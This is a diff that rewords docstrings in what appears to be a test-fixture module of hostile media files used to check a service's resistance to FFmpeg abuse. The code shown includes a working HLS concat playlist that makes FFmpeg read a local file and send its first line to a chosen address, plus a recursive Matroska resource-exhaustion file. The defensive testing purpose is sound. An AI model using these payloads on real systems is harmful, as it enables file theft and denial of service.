@@ -1,4 +1,4 @@
-"""Files that are mailed in to get out: to read, to call home, to start programs, to grow.
+"""Hostile files: they try to read files, use the network, start programs, or grow without end.
 
 Each is made for one file that it tries to read (``secret``) and one loopback address that it
 tries to reach (``url``).
@@ -24,7 +24,7 @@ from .stills import chunk, png
 
 @dataclass(frozen=True)
 class Target:
-    """What must stay untouched."""
+    """What no hostile file may reach."""
 
     secret: Path
     url: str
@@ -32,7 +32,7 @@ class Target:
 
 @dataclass(frozen=True)
 class Hostile:
-    """A file, and the ends that it may come to: reason codes, or "accepted" as harmless.
+    """A file and its permitted outcomes: reason codes, or "accepted" as harmless.
 
     ``doors`` are the options with which FFmpeg does what the file wants; None where it wants
     to grow, not to get out.
@@ -56,7 +56,7 @@ def _hls(scheme: str, target: Target) -> bytes:
 
 
 def _hls_concat(target: Target) -> bytes:
-    """The way in which FFmpeg once sent the first line of a file to an address of choice."""
+    """The playlist with which FFmpeg once sent the first line of a file to a chosen address."""
     inner = f"concat:{target.url}/header.m3u8|file://{target.secret}"
     return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{inner}\n#EXT-X-ENDLIST\n".encode()
 
@@ -118,7 +118,7 @@ def _svg(target: Target) -> bytes:
 
 
 def _with_reference(reference: bytes, _target: Target) -> bytes:
-    """A film whose media lie elsewhere: its data reference is not the file itself."""
+    """A film with its media in another file: its data reference is not the file itself."""
     path = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")
     return replace(bases()["film.mp4"], path, b"\0\0\0\0\0\0\0\1" + reference)
 
@@ -241,7 +241,7 @@ def _years_long(_target: Target) -> bytes:
 
 
 def _recursive_matroska(_target: Target) -> bytes:
-    """Segments and clusters of unknown size, each in the one before."""
+    """Segments and clusters of unknown size, each inside the one before."""
     unknown = b"\x01" + b"\xff" * 7
     opened = b"\x18\x53\x80\x67" + unknown + b"\x1f\x43\xb6\x75" + unknown
     return element(0x1A45DFA3, element(0x4282, b"matroska")) + opened * 100_000
